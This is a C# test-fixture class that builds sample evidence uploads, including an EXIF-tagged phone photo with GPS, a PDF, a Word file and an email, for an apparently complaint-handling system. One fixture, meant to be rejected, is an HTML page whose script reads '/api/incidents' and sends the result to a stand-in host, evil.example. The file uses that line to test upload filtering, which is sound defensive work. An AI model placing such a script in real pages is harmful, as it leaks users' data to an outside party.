using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;
using SkiaSharp;

namespace Crisis.Core.Tests.Evidence;

/// <summary>
/// Real files of each kind evidence comes in, made here so that every byte is known: a phone photo (JPEG with EXIF:
/// camera, time, orientation and GPS position), a screenshot (PNG), a lab report (PDF), a Word document, an email,
/// and the files that must be refused (a web page with a script, a program named like a PDF).
/// </summary>
public static class EvidenceSamples
{
    /// <summary>Shanghai, People's Square: 31° 13′ 48″ N, 121° 28′ 12″ E, as EXIF writes them (degrees, minutes, seconds as rationals).</summary>
    public static readonly uint[] Latitude = [31, 1, 13, 1, 48, 1];
    public static readonly uint[] Longitude = [121, 1, 28, 1, 12, 1];
    public const string CameraMake = "AuroraCam";
    public const string TakenAt = "2026:12:03 14:22:05";

    /// <summary>A photo of a cracked bottle as a phone takes it: <paramref name="width"/>×<paramref name="height"/> pixels with EXIF (orientation 6 is a phone held upright).</summary>
    public static byte[] PhonePhoto(int width = 640, int height = 480, ushort orientation = 1, bool withGps = true)
    {
        var jpeg = Encode(Drawing(width, height), SKEncodedImageFormat.Jpeg);
        var tiff = Exif(orientation, withGps);
        var app1 = new byte[4 + 6 + tiff.Length];
        app1[0] = 0xFF;
        app1[1] = 0xE1;
        BinaryPrimitives.WriteUInt16BigEndian(app1.AsSpan(2), (ushort)(2 + 6 + tiff.Length));
        "Exif\0\0"u8.CopyTo(app1.AsSpan(4));
        tiff.CopyTo(app1.AsSpan(10));
        return [.. jpeg[..2], .. app1, .. jpeg[2..]];
    }

    /// <summary>A screenshot of the platform's penalty notice.</summary>
    public static byte[] Screenshot(int width = 390, int height = 844) => Encode(Drawing(width, height), SKEncodedImageFormat.Png);

    /// <summary>A one-page PDF, written out by hand with a correct cross-reference table.</summary>
    public static byte[] LabReport()
    {
        var objects = new[]
        {
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
            Stream("BT /F1 18 Tf 72 770 Td (SGS test report AB-260 batch 2611: seal failure) Tj ET"),
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        };
        var pdf = new StringBuilder("%PDF-1.4\n");
        var offsets = new List<int>();
        for (var i = 0; i < objects.Length; i++)
        {
            offsets.Add(pdf.Length);
            pdf.Append($"{i + 1} 0 obj\n{objects[i]}\nendobj\n");
        }
        var xref = pdf.Length;
        pdf.Append($"xref\n0 {objects.Length + 1}\n0000000000 65535 f \n");
        foreach (var offset in offsets) pdf.Append($"{offset:0000000000} 00000 n \n");
        pdf.Append($"trailer\n<< /Size {objects.Length + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n");
        return Encoding.ASCII.GetBytes(pdf.ToString());

        static string Stream(string content) => $"<< /Length {content.Length} >>\nstream\n{content}\nendstream";
    }

    /// <summary>A Word document (Office Open XML) with one paragraph: the supplier's certificate.</summary>
    public static byte[] WordDocument()
    {
        using var output = new MemoryStream();
        using (var zip = new ZipArchive(output, ZipArchiveMode.Create))
        {
            Add(zip, "[Content_Types].xml", """<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>""");
            Add(zip, "_rels/.rels", """<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>""");
            Add(zip, "word/document.xml", """<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Certificate of conformity, bottle AB-260, batch 2611.</w:t></w:r></w:p></w:body></w:document>""");
        }
        return output.ToArray();

        static void Add(ZipArchive zip, string name, string content)
        {
            using var writer = new StreamWriter(zip.CreateEntry(name).Open(), new UTF8Encoding(false));
            writer.Write(content);
        }
    }

    /// <summary>A customer's complaint email as a mail program saves it (.eml).</summary>
    public static byte[] Email() => Encoding.UTF8.GetBytes(
        "Received: from mx.example.cn by mail.aurora.example; Thu, 3 Dec 2026 14:30:00 +0800\r\n" +
        "From: Li Na <lina@example.cn>\r\nTo: care@aurora.example\r\nSubject: =?UTF-8?B?5aW255O256KO5LqG?=\r\n" +
        "Date: Thu, 3 Dec 2026 14:29:41 +0800\r\nMessage-ID: <20261203142941.1@example.cn>\r\nMIME-Version: 1.0\r\n" +
        "Content-Type: text/plain; charset=UTF-8\r\n\r\nThe bottle cracked after sterilising. Batch 2611. Photos attached.\r\n");

    /// <summary>A web page with a script, named like a photo.</summary>
    public static byte[] PageWithScript() => Encoding.UTF8.GetBytes(
        "<!DOCTYPE html>\n<html><body><h1>Order 3920117745</h1><script>fetch('/api/incidents').then(r => r.text()).then(t => new Image().src = 'https://evil.example/?' + t)</script></body></html>\n");

    /// <summary>A Windows program named like an invoice: "MZ", then enough of a PE header to be one.</summary>
    public static byte[] Program()
    {
        var bytes = new byte[512];
        "MZ"u8.CopyTo(bytes);
        BinaryPrimitives.WriteInt32LittleEndian(bytes.AsSpan(0x3C), 0x80);
        "PE\0\0"u8.CopyTo(bytes.AsSpan(0x80));
        return bytes;
    }

    /// <summary>Whether the bytes still hold the GPS position this class writes (the latitude's rationals, either byte order).</summary>
    public static bool HoldsPosition(byte[] content)
    {
        var little = new byte[24];
        var big = new byte[24];
        for (var i = 0; i < 6; i++)
        {
            BinaryPrimitives.WriteUInt32LittleEndian(little.AsSpan(i * 4), Latitude[i]);
            BinaryPrimitives.WriteUInt32BigEndian(big.AsSpan(i * 4), Latitude[i]);
        }
        return content.AsSpan().IndexOf(little) >= 0 || content.AsSpan().IndexOf(big) >= 0;
    }

    private static SKBitmap Drawing(int width, int height)
    {
        var bitmap = new SKBitmap(width, height);
        using var canvas = new SKCanvas(bitmap);
        canvas.Clear(new SKColor(0xE8, 0xEE, 0xF4));
        using var bottle = new SKPaint { Color = new SKColor(0x3A, 0x7B, 0xC8), IsAntialias = true };
        canvas.DrawRoundRect(SKRect.Create(width * 0.35f, height * 0.15f, width * 0.3f, height * 0.7f), 24, 24, bottle);
        using var crack = new SKPaint { Color = SKColors.Black, StrokeWidth = 4, IsAntialias = true, Style = SKPaintStyle.Stroke };
        canvas.DrawLine(width * 0.4f, height * 0.6f, width * 0.6f, height * 0.8f, crack);
        // A red mark in the top-left corner: where it ends up tells which way the picture was turned.
        using var mark = new SKPaint { Color = SKColors.Red };
        canvas.DrawRect(SKRect.Create(0, 0, width / 8f, height / 8f), mark);
        return bitmap;
    }

    private static byte[] Encode(SKBitmap bitmap, SKEncodedImageFormat format)
    {
        using (bitmap)
        using (var data = bitmap.Encode(format, 90)) return data.ToArray();
    }

    /// <summary>A little-endian TIFF structure as EXIF carries it: make, orientation, time taken and (optionally) a GPS block.</summary>
    private static byte[] Exif(ushort orientation, bool withGps)
    {
        var tiff = new byte[512];
        "II"u8.CopyTo(tiff);
        BinaryPrimitives.WriteUInt16LittleEndian(tiff.AsSpan()[2..], 42);
        BinaryPrimitives.WriteUInt32LittleEndian(tiff.AsSpan()[4..], 8);
        var entries = withGps ? 4 : 3;
        var data = 8 + 2 + entries * 12 + 4; // values that do not fit in an entry go here
        var at = 10;
        void Entry(ushort tag, ushort type, uint count, uint value)
        {
            BinaryPrimitives.WriteUInt16LittleEndian(tiff.AsSpan()[at..], tag);
            BinaryPrimitives.WriteUInt16LittleEndian(tiff.AsSpan()[(at + 2)..], type);
            BinaryPrimitives.WriteUInt32LittleEndian(tiff.AsSpan()[(at + 4)..], count);
            BinaryPrimitives.WriteUInt32LittleEndian(tiff.AsSpan()[(at + 8)..], value);
            at += 12;
        }
        uint Ascii(string text)
        {
            var offset = (uint)data;
            Encoding.ASCII.GetBytes(text + "\0").CopyTo(tiff.AsSpan()[data..]);
            data += text.Length + 1;
            return offset;
        }
        uint Rationals(uint[] values)
        {
            var offset = (uint)data;
            foreach (var value in values) { BinaryPrimitives.WriteUInt32LittleEndian(tiff.AsSpan()[data..], value); data += 4; }
            return offset;
        }
        BinaryPrimitives.WriteUInt16LittleEndian(tiff.AsSpan()[8..], (ushort)entries);
        Entry(0x010F, 2, (uint)CameraMake.Length + 1, Ascii(CameraMake));
        Entry(0x0112, 3, 1, orientation);
        Entry(0x0132, 2, (uint)TakenAt.Length + 1, Ascii(TakenAt));
        if (!withGps) return tiff[..data];
        var gpsEntry = at;
        Entry(0x8825, 4, 1, 0);
        BinaryPrimitives.WriteUInt32LittleEndian(tiff.AsSpan()[at..], 0); // no next IFD
        var gps = data;
        BinaryPrimitives.WriteUInt32LittleEndian(tiff.AsSpan()[(gpsEntry + 8)..], (uint)gps);
        data = gps + 2 + 4 * 12 + 4;
        at = gps + 2;
        BinaryPrimitives.WriteUInt16LittleEndian(tiff.AsSpan()[gps..], 4);
        Entry(0x0001, 2, 2, 'N');
        Entry(0x0002, 5, 3, Rationals(Latitude));
        Entry(0x0003, 2, 2, 'E');
        Entry(0x0004, 5, 3, Rationals(Longitude));
        return tiff[..data];
    }
}
